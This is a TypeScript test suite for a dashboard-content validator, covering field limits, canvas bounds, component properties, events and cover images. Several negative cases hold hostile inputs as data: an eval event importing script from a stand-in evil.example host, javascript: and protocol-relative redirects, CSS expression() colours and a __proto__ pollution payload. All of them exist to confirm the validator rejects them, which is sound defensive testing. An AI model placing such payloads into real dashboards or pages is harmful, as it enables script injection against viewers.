import { COMPONENT_CATALOGUE, type ComponentTemplate } from './dashboard-components';
import {
  COMPONENT_TYPES,
  type ComponentType,
  DASHBOARD_CONTENT_BOUNDS,
  DASHBOARD_LIMITS,
  DEFAULT_CANVAS_STYLE,
  EMPTY_DASHBOARD_CONTENT,
  utf8Bytes,
  validateCoverIcon,
  validateDashboardContent,
  validateDashboardFields,
} from './dashboards';
import { VALIDATION_MESSAGES } from './validation-messages';

type Json = Record<string, unknown>;
let serial = 0;

/** A component as the designer drops it: the catalogue's template where the type has one. */
function component(type: ComponentType, extra: Json = {}, style: Json = {}): Json {
  const template = COMPONENT_CATALOGUE[type];
  return {
    id: `c${++serial}`,
    component: type,
    label: type,
    propValue: template && type !== 'Group' ? structuredClone(template.propValue) : type === 'Group' ? [] : {},
    style: { ...(template ? template.style : { width: 100, height: 50, rotate: 0, opacity: 1 }), left: 10, top: 20, ...style },
    animations: [],
    events: {},
    isLock: false,
    ...extra,
  };
}

/** A device-bound component: the template's properties with the uuid set. */
const bound = (type: ComponentType, uuid: string, extra: Json = {}) => {
  const made = component(type, extra);
  made.propValue = { ...(made.propValue as Json), uuid };
  return made;
};

const inGroup = (child: Json, groupStyle: Json = { left: 0, top: 0, width: 50, height: 50 }) => ({ ...child, groupStyle });
const group = (children: Json[], extra: Json = {}) => component('Group', { propValue: children, ...extra }, { width: 400, height: 300 });

const contentOf = (componentData: unknown[], canvasStyle: Json = { ...DEFAULT_CANVAS_STYLE }, extra: Json = {}) => JSON.stringify({ canvasStyle, componentData, ...extra });

/** `field:key` of every problem, or [] when accepted. */
const problems = (json: string) => (validateDashboardContent(json).errors ?? []).map((e) => `${e.field}:${e.key}`);

/** Runs `work` with a catalogue entry for `type` (restored after), to test the property shapes whatever the catalogue holds. */
function withTemplate(type: ComponentType, template: ComponentTemplate | undefined, work: () => void) {
  const before = COMPONENT_CATALOGUE[type];
  if (template) COMPONENT_CATALOGUE[type] = template;
  else delete COMPONENT_CATALOGUE[type];
  try {
    work();
  } finally {
    if (before) COMPONENT_CATALOGUE[type] = before;
    else delete COMPONENT_CATALOGUE[type];
  }
}

describe('dashboard title and description (spec part 2 section 9)', () => {
  it('requires a title of at most 16 characters after trimming; a description of at most 200', () => {
    expect(validateDashboardFields({ name: '  产线总览看板  ' })).toEqual([]);
    expect(validateDashboardFields({ name: 'x'.repeat(16), description: 'd'.repeat(200) })).toEqual([]);
    expect(validateDashboardFields({ name: '   ' })).toEqual([{ field: 'name', key: 'dashboard_name_required' }]);
    expect(validateDashboardFields({ name: null })).toEqual([{ field: 'name', key: 'dashboard_name_required' }]);
    expect(validateDashboardFields({ name: 'x'.repeat(17), description: 'd'.repeat(201) })).toEqual([
      { field: 'name', key: 'dashboard_name_too_long', params: { max: 16 } },
      { field: 'description', key: 'dashboard_description_too_long', params: { max: 200 } },
    ]);
    expect(validateDashboardFields({ name: 'a\u0000b', description: 'x\u001b' }).map((e) => e.key)).toEqual(['text_not_allowed', 'text_not_allowed']);
    expect(VALIDATION_MESSAGES.dashboard_name_required.zh).toBe('看板标题必填');
  });
});

describe('dashboard content', () => {
  it('accepts the empty canvas of a new dashboard', () => {
    const checked = validateDashboardContent(EMPTY_DASHBOARD_CONTENT);
    expect(checked.errors).toBeUndefined();
    expect(checked.content).toEqual({ canvasStyle: DEFAULT_CANVAS_STYLE, componentData: [] });
    expect(checked.devices).toEqual([]);
  });

  it('accepts a canvas of every component type and returns every bound device with its path, inside groups too', () => {
    const all = COMPONENT_TYPES.filter((t) => t !== 'Group').map((type) => component(type));
    const json = contentOf([
      ...all,
      bound('AndonCard', 'dev-a'),
      group([inGroup(component('VText')), inGroup(bound('ProgressBar', 'dev-b')), inGroup(group([inGroup(bound('AndonCard', 'dev-a'))]))]),
    ]);
    const checked = validateDashboardContent(json);
    expect(checked.errors).toBeUndefined();
    const n = all.length;
    expect(checked.devices).toEqual([
      { uuid: 'dev-a', path: `content.componentData[${n}].propValue.uuid` },
      { uuid: 'dev-b', path: `content.componentData[${n + 1}].propValue[1].propValue.uuid` },
      { uuid: 'dev-a', path: `content.componentData[${n + 1}].propValue[2].propValue[0].propValue.uuid` },
    ]);
    expect(checked.content!.componentData).toHaveLength(n + 2);
  });

  it('treats an empty uuid as a component not bound yet', () => {
    const checked = validateDashboardContent(contentOf([bound('AndonCard', '')]));
    expect(checked.errors).toBeUndefined();
    expect(checked.devices).toEqual([]);
  });

  it('refuses text that is not JSON, or JSON that is not a content object', () => {
    expect(problems('{"canvasStyle":')).toEqual(['content:dashboard_content_json']);
    expect(problems('')).toEqual(['content:dashboard_content_json']);
    expect(problems('[]')).toEqual(['content:dashboard_content_shape']);
    expect(problems('"text"')).toEqual(['content:dashboard_content_shape']);
    expect(problems('{"componentData":[]}')).toEqual(['content.canvasStyle:dashboard_content_shape']);
    expect(problems(JSON.stringify({ canvasStyle: DEFAULT_CANVAS_STYLE }))).toEqual(['content.componentData:dashboard_content_shape']);
    expect(problems(JSON.stringify({ canvasStyle: DEFAULT_CANVAS_STYLE, componentData: {} }))).toEqual(['content.componentData:dashboard_content_shape']);
  });

  it('measures the size in UTF-8 bytes: 1 MiB is the limit', () => {
    const pad = (text: string) => contentOf([component('VText', { label: '' })], { ...DEFAULT_CANVAS_STYLE }, { note: text });
    const base = utf8Bytes(pad(''));
    expect(problems(pad('x'.repeat(DASHBOARD_LIMITS.contentBytes - base)))).toEqual([]);
    expect(problems(pad('x'.repeat(DASHBOARD_LIMITS.contentBytes - base + 1)))).toEqual(['content:dashboard_content_too_large']);
    // 350,000 Chinese characters: fewer than 1 Mi characters, more than 1 MiB.
    expect(problems(pad('看'.repeat(350_000)))).toEqual(['content:dashboard_content_too_large']);
    for (const text of ['abc', 'é', '看板', '😀', 'a\uD800b', '\uDC00']) expect(utf8Bytes(text)).toBe(Buffer.byteLength(text, 'utf8'));
  });

  it('keeps the canvas within its limits (width 800-16000, height 600-16000, scale 1-200, theme light or dark)', () => {
    const canvas = (style: Json) => problems(contentOf([], { ...DEFAULT_CANVAS_STYLE, ...style }));
    expect(canvas({ width: 800, height: 600, scale: 1, theme: 'light' })).toEqual([]);
    expect(canvas({ width: 16000, height: 16000, scale: 200 })).toEqual([]);
    expect(canvas({ width: 799 })).toEqual(['content.canvasStyle.width:dashboard_value_range']);
    expect(canvas({ width: 16001, height: 599 })).toEqual(['content.canvasStyle.width:dashboard_value_range', 'content.canvasStyle.height:dashboard_value_range']);
    expect(canvas({ scale: 0 })).toEqual(['content.canvasStyle.scale:dashboard_value_range']);
    expect(canvas({ scale: '100' })).toEqual(['content.canvasStyle.scale:dashboard_content_shape']);
    expect(canvas({ theme: 'blue' })).toEqual(['content.canvasStyle.theme:dashboard_choice']);
    // JSON's 1e400 reads as Infinity: not a finite number.
    expect(problems(EMPTY_DASHBOARD_CONTENT.replace('"width":1920', '"width":1e400'))).toEqual(['content.canvasStyle.width:dashboard_content_shape']);
  });

  it('drops keys the contract does not know, at every level', () => {
    const text = component('VText', { html: '<script>', style: { ...(component('VText').style as Json), onclick: 'x' } });
    const checked = validateDashboardContent(contentOf([text], { ...DEFAULT_CANVAS_STYLE, background: 'url(x)' }, { script: 'alert(1)' }));
    expect(checked.errors).toBeUndefined();
    expect(Object.keys(checked.content!)).toEqual(['canvasStyle', 'componentData']);
    expect(checked.content!.canvasStyle).toEqual(DEFAULT_CANVAS_STYLE);
    expect(checked.content!.componentData[0]).not.toHaveProperty('html');
    expect(checked.content!.componentData[0].style).not.toHaveProperty('onclick');
  });

  it('refuses an unknown component type, naming its path', () => {
    expect(problems(contentOf([component('VText'), { ...component('VText'), component: 'Iframe' }]))).toEqual(['content.componentData[1].component:dashboard_component_unknown']);
    expect(problems(contentOf([group([inGroup({ ...component('VText'), component: 'toString' })])]))).toEqual(['content.componentData[0].propValue[0].component:dashboard_component_unknown']);
    expect(problems(contentOf(['VText']))).toEqual(['content.componentData[0]:dashboard_content_shape']);
  });

  it('counts group children toward the 500 components', () => {
    const many = (n: number) => Array.from({ length: n }, () => inGroup(component('RectShape')));
    expect(problems(contentOf([group(many(249)), group(many(249))]))).toEqual([]);
    expect(problems(contentOf([group(many(249)), group(many(250))]))).toEqual(['content.componentData:dashboard_components_too_many']);
    expect(problems(contentOf(Array.from({ length: 501 }, () => component('RectShape'))))).toEqual(['content.componentData:dashboard_components_too_many']);
  });

  it('lets groups nest 4 levels, not 5', () => {
    const nest = (levels: number): Json => (levels === 1 ? group([inGroup(component('VText'))]) : group([inGroup(nest(levels - 1))]));
    expect(problems(contentOf([nest(4)]))).toEqual([]);
    expect(problems(contentOf([nest(5)]))).toEqual(['content.componentData[0].propValue[0].propValue[0].propValue[0].propValue[0].propValue:dashboard_group_too_deep']);
    // A group child needs its place in the group.
    expect(problems(contentOf([group([component('VText')])]))).toEqual(['content.componentData[0].propValue[0].groupStyle:dashboard_content_shape']);
    expect(problems(contentOf([group([inGroup(component('VText'), { left: 0, top: 0, width: 'wide', height: 5 })])]))).toEqual(['content.componentData[0].propValue[0].groupStyle.width:dashboard_content_shape']);
  });

  it('refuses ids that are empty, too long or used twice', () => {
    const a = component('VText');
    expect(problems(contentOf([a, { ...component('VText'), id: a.id }]))).toEqual(['content.componentData[1].id:dashboard_content_shape']);
    expect(problems(contentOf([{ ...a, id: '' }]))).toEqual(['content.componentData[0].id:dashboard_content_shape']);
    expect(problems(contentOf([{ ...a, id: 'x'.repeat(65) }]))).toEqual(['content.componentData[0].id:text_too_long']);
    expect(problems(contentOf([{ ...a, id: 7 }]))).toEqual(['content.componentData[0].id:dashboard_content_shape']);
  });

  it('bounds the style: positions within twice the canvas, sizes above 0 and at most 16000, opacity 0..1', () => {
    const styled = (style: Json) => problems(contentOf([component('RectShape', {}, style)]));
    expect(styled({ left: -3840, top: 3240, width: 16000, height: 0.5, rotate: -720, opacity: 0 })).toEqual([]);
    expect(styled({ left: -3841 })).toEqual(['content.componentData[0].style.left:dashboard_value_range']);
    expect(styled({ top: 3241 })).toEqual(['content.componentData[0].style.top:dashboard_value_range']);
    expect(styled({ width: 0 })).toEqual(['content.componentData[0].style.width:dashboard_value_range']);
    expect(styled({ height: -5 })).toEqual(['content.componentData[0].style.height:dashboard_value_range']);
    expect(styled({ width: 16001 })).toEqual(['content.componentData[0].style.width:dashboard_value_range']);
    expect(styled({ opacity: 1.5 })).toEqual(['content.componentData[0].style.opacity:dashboard_value_range']);
    expect(styled({ rotate: '45deg' })).toEqual(['content.componentData[0].style.rotate:dashboard_content_shape']);
    expect(styled({ left: null })).toEqual(['content.componentData[0].style.left:dashboard_content_shape']);
    expect(problems(contentOf([{ ...component('RectShape'), style: 'left:0' }]))).toEqual(['content.componentData[0].style:dashboard_content_shape']);
  });

  it("checks a type's own style keys and properties against the catalogue (VText)", () => {
    const text = (propValue: unknown, style: Json = {}) => problems(contentOf([component('VText', { propValue }, style)]));
    expect(text('Line one\nline two', { textAlign: 'center', color: 'rgba(0, 0, 0, 0.5)', fontSize: 24 })).toEqual([]);
    expect(text({ text: 'x' })).toEqual(['content.componentData[0].propValue:dashboard_content_shape']);
    expect(text('x'.repeat(1001))).toEqual(['content.componentData[0].propValue:text_too_long']);
    expect(text('bell\u0007')).toEqual(['content.componentData[0].propValue:text_not_allowed']);
    expect(text('ok', { textAlign: 'justify' })).toEqual(['content.componentData[0].style.textAlign:dashboard_choice']);
    expect(text('ok', { color: 'url(javascript:alert(1))' })).toEqual(['content.componentData[0].style.color:dashboard_color']);
    expect(text('ok', { fontSize: 0 })).toEqual(['content.componentData[0].style.fontSize:dashboard_value_range']);
    expect(text('ok', { fontSize: undefined })).toEqual(['content.componentData[0].style.fontSize:dashboard_content_shape']);
  });

  it('checks every property shape kind generically', () => {
    const template: ComponentTemplate = {
      group: 'decoration',
      label: { en: 'Test', zh: '测试' },
      style: { width: 100, height: 100, rotate: 0, opacity: 1 },
      propValue: {},
      props: {
        title: { kind: 'text', max: 5 },
        count: { kind: 'number', min: 1, max: 10 },
        shown: { kind: 'boolean' },
        color: { kind: 'color' },
        colors: { kind: 'colors', max: 2 },
        uuid: { kind: 'uuid' },
        param: { kind: 'param' },
        picture: { kind: 'url' },
        mode: { kind: 'choice', values: ['a', 'b'] },
        note: { kind: 'text', max: 5, optional: true },
      },
      styleProps: { background: { kind: 'color', optional: true } },
    };
    const good = { title: 'Hello', count: 10, shown: false, color: '#abc', colors: ['#112233', 'red'], uuid: 'dev-1', param: 'LaserPower', picture: '/files/default/ab.png', mode: 'b' };
    withTemplate('Decoration12', template, () => {
      const check = (props: Json, style: Json = {}) => problems(contentOf([component('Decoration12', { propValue: { ...good, ...props } }, style)]));
      const at = (key: string) => `content.componentData[0].propValue.${key}`;
      expect(check({})).toEqual([]);
      expect(check({ note: 'hi', picture: 'data:image/png;base64,iVBORw0KGgo=' }, { background: '#000000ff' })).toEqual([]);
      const checked = validateDashboardContent(contentOf([component('Decoration12', { propValue: { ...good, extra: 1 } })]));
      expect(checked.content!.componentData[0].propValue).toEqual(good);
      expect(checked.devices).toEqual([{ uuid: 'dev-1', path: at('uuid') }]);
      expect(check({ title: 'Hello!' })).toEqual([`${at('title')}:text_too_long`]);
      expect(check({ count: 11 })).toEqual([`${at('count')}:dashboard_value_range`]);
      expect(check({ count: '5' })).toEqual([`${at('count')}:dashboard_content_shape`]);
      expect(check({ shown: 'yes' })).toEqual([`${at('shown')}:dashboard_content_shape`]);
      expect(check({ color: 'expression(alert(1))' })).toEqual([`${at('color')}:dashboard_color`]);
      expect(check({ colors: ['red', 'green', 'blue'] })).toEqual([`${at('colors')}:dashboard_list_too_long`]);
      expect(check({ colors: ['red', '#12'] })).toEqual([`${at('colors')}[1]:dashboard_color`]);
      expect(check({ uuid: 'x'.repeat(65) })).toEqual([`${at('uuid')}:text_too_long`]);
      expect(check({ param: 'a b' })).toEqual([`${at('param')}:dashboard_content_shape`]);
      expect(check({ picture: 'javascript:alert(1)' })).toEqual([`${at('picture')}:dashboard_content_shape`]);
      expect(check({ picture: '//evil.example/x.png' })).toEqual([`${at('picture')}:dashboard_content_shape`]);
      expect(check({ picture: 'data:image/svg+xml;base64,PHN2Zz4=' })).toEqual([`${at('picture')}:dashboard_content_shape`]);
      expect(check({ mode: 'c' })).toEqual([`${at('mode')}:dashboard_choice`]);
      expect(check({ mode: undefined })).toEqual([`${at('mode')}:dashboard_content_shape`]);
      expect(check({}, { background: 'url(x)' })).toEqual(['content.componentData[0].style.background:dashboard_color']);
      expect(problems(contentOf([component('Decoration12', { propValue: 'text' })]))).toEqual(['content.componentData[0].propValue:dashboard_content_shape']);
    });
  });

  it('takes a flat object of bounded primitives for a type without a catalogue entry', () => {
    withTemplate('Decoration11', undefined, () => {
      const free = (propValue: unknown, style: Json = {}) => problems(contentOf([component('Decoration11', { propValue }, style)]));
      expect(free({ title: 'x', n: 3, on: true, none: null, list: [1, 'a', false], uuid: 'dev-9' }, { color: '#fff', dur: 3 })).toEqual([]);
      const checked = validateDashboardContent(contentOf([component('Decoration11', { propValue: { uuid: 'dev-9' } })]));
      expect(checked.devices).toEqual([{ uuid: 'dev-9', path: 'content.componentData[0].propValue.uuid' }]);
      expect(free({ nested: { a: 1 } })).toEqual(['content.componentData[0].propValue.nested:dashboard_content_shape']);
      expect(free({ list: [[1]] })).toEqual(['content.componentData[0].propValue.list[0]:dashboard_content_shape']);
      expect(free({ list: Array(101).fill(1) })).toEqual(['content.componentData[0].propValue.list:dashboard_list_too_long']);
      expect(free({ text: 'x'.repeat(1001) })).toEqual(['content.componentData[0].propValue.text:text_too_long']);
      expect(free(JSON.parse('{"__proto__": {"polluted": true}}'))).toEqual(['content.componentData[0].propValue.__proto__:dashboard_content_shape']);
      expect(free({ 'a-b': 1 })).toEqual(['content.componentData[0].propValue.a-b:dashboard_content_shape']);
      expect(free(Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`k${i}`, i])))).toEqual(['content.componentData[0].propValue:dashboard_list_too_long']);
      expect(free([1, 2])).toEqual(['content.componentData[0].propValue:dashboard_content_shape']);
      expect(free({}, { script: { a: 1 } })).toEqual(['content.componentData[0].style.script:dashboard_content_shape']);
      expect(({} as Json).polluted).toBeUndefined();
    });
  });

  it('bounds animations: known shape, at most 20, 0.1 to 60 seconds', () => {
    const animation = (extra: Json = {}) => ({ label: '弹跳', value: 'bounceIn', animationTime: 1, isLoop: false, ...extra });
    const animated = (animations: unknown) => problems(contentOf([component('VText', { animations })]));
    expect(animated([animation(), animation({ animationTime: 0.1, isLoop: true }), animation({ animationTime: 60 })])).toEqual([]);
    expect(animated(Array.from({ length: 21 }, () => animation()))).toEqual(['content.componentData[0].animations:dashboard_list_too_long']);
    expect(animated([animation({ animationTime: 0.05 })])).toEqual(['content.componentData[0].animations[0].animationTime:dashboard_value_range']);
    expect(animated([animation({ animationTime: 61 })])).toEqual(['content.componentData[0].animations[0].animationTime:dashboard_value_range']);
    expect(animated([animation({ value: 'bounce In; x' })])).toEqual(['content.componentData[0].animations[0].value:dashboard_content_shape']);
    expect(animated(['bounceIn'])).toEqual(['content.componentData[0].animations[0]:dashboard_content_shape']);
    expect(animated({})).toEqual(['content.componentData[0].animations:dashboard_content_shape']);
  });

  it('takes only the events alert and redirect (never a global by name: eval would run the author\'s script in every viewer), a redirect to a path or an http(s) address, at most 10', () => {
    const evented = (events: unknown) => problems(contentOf([component('VText', { events })]));
    expect(evented({ alert: 'Line 1 stopped', redirect: '/deviceView' })).toEqual([]);
    expect(evented({ redirect: 'https://example.com/line?id=1' })).toEqual([]);
    expect(evented({ eval: "import('//evil.example/x.js')" })).toEqual(['content.componentData[0].events.eval:dashboard_event_name']);
    for (const name of ['setTimeout', 'open', 'openDetail', 'alert(1)', '1go']) expect(evented({ [name]: 'x' })).toEqual([`content.componentData[0].events.${name}:dashboard_event_name`]);
    expect(evented(JSON.parse('{"__proto__": "x"}'))).toEqual(['content.componentData[0].events.__proto__:dashboard_event_name']);
    expect(evented({ constructor: 'x' })).toEqual(['content.componentData[0].events.constructor:dashboard_event_name']);
    for (const link of ['javascript:alert(1)', 'JavaScript:alert(1)', '//evil.example', '/\\evil.example', 'data:text/html,x', 'line-1', ''])
      expect(evented({ redirect: link })).toEqual(['content.componentData[0].events.redirect:dashboard_event_link']);
    expect(evented({ alert: 'x'.repeat(201) })).toEqual(['content.componentData[0].events.alert:text_too_long']);
    expect(evented({ alert: 7 })).toEqual(['content.componentData[0].events.alert:dashboard_content_shape']);
    expect(evented(Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`e${i}`, ''])))).toEqual(['content.componentData[0].events:dashboard_list_too_long']);
    // The message names the events there are.
    expect(validateDashboardContent(contentOf([component('VText', { events: { eval: 'x' } })])).errors).toEqual([
      { field: 'content.componentData[0].events.eval', key: 'dashboard_event_name', params: { values: 'alert, redirect' } },
    ]);
  });

  it('refuses hostile strings anywhere: control characters, broken UTF-16, past their bound', () => {
    expect(problems(contentOf([component('VText', { label: 'a\u0000' })]))).toEqual(['content.componentData[0].label:text_not_allowed']);
    expect(problems(contentOf([component('VText', { label: '\uD800' })]))).toEqual(['content.componentData[0].label:text_not_allowed']);
    expect(problems(contentOf([component('VText', { label: 'x'.repeat(DASHBOARD_CONTENT_BOUNDS.label + 1) })]))).toEqual(['content.componentData[0].label:text_too_long']);
    expect(problems(contentOf([component('VText', { icon: 'i\u009b' })]))).toEqual(['content.componentData[0].icon:text_not_allowed']);
    expect(problems(contentOf([component('VText', { group: 'evil' })]))).toEqual(['content.componentData[0].group:dashboard_content_shape']);
    expect(problems(contentOf([component('VText', { isLock: 'no' })]))).toEqual(['content.componentData[0].isLock:dashboard_content_shape']);
  });

  it('checks the linkage shape when present', () => {
    const linkage = { duration: 1, data: [{ id: 'c1', label: 'Text', event: 'click', style: [{ key: 'color', value: 'red' }] }] };
    expect(problems(contentOf([component('VText', { linkage })]))).toEqual([]);
    expect(problems(contentOf([component('VText', { linkage: { ...linkage, data: [{ ...linkage.data[0], style: [{ key: 'color', value: 7 }] }] } })]))).toEqual([
      'content.componentData[0].linkage.data[0].style[0].value:dashboard_content_shape',
    ]);
  });

  it('reports at most 20 problems', () => {
    const bad = Array.from({ length: 60 }, () => component('RectShape', {}, { width: -1 }));
    expect(problems(contentOf(bad))).toHaveLength(DASHBOARD_CONTENT_BOUNDS.errors);
  });
});

describe('dashboard cover', () => {
  const jpeg = (bytes: number[]) => `data:image/jpeg;base64,${Buffer.from(bytes).toString('base64')}`;
  it('takes a JPEG data URL of at most 512 KiB', () => {
    expect(validateCoverIcon(jpeg([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]))).toEqual([]);
    const big = Buffer.alloc(DASHBOARD_LIMITS.coverBytes, 0);
    big.set([0xff, 0xd8, 0xff]);
    expect(validateCoverIcon(`data:image/jpeg;base64,${big.toString('base64')}`)).toEqual([]);
    const bigger = Buffer.concat([big, Buffer.from([0])]);
    expect(validateCoverIcon(`data:image/jpeg;base64,${bigger.toString('base64')}`)).toEqual([{ field: 'coverIcon', key: 'dashboard_cover_too_large', params: { max: '512 KB' } }]);
  });

  it('refuses other pictures, other data, broken base64', () => {
    const refused = [{ field: 'coverIcon', key: 'dashboard_cover_format' }];
    expect(validateCoverIcon(`data:image/png;base64,${Buffer.from([0x89, 0x50, 0x4e, 0x47]).toString('base64')}`)).toEqual(refused);
    expect(validateCoverIcon(jpeg([0x89, 0x50, 0x4e, 0x47]))).toEqual(refused);
    expect(validateCoverIcon('data:image/jpeg;base64,/9j/4AAQ*')).toEqual(refused);
    expect(validateCoverIcon('data:image/jpeg;base64,/9j/4A')).toEqual(refused);
    expect(validateCoverIcon('data:image/jpeg;base64,')).toEqual(refused);
    expect(validateCoverIcon('https://example.com/cover.jpg')).toEqual(refused);
    expect(validateCoverIcon('')).toEqual(refused);
  });
});
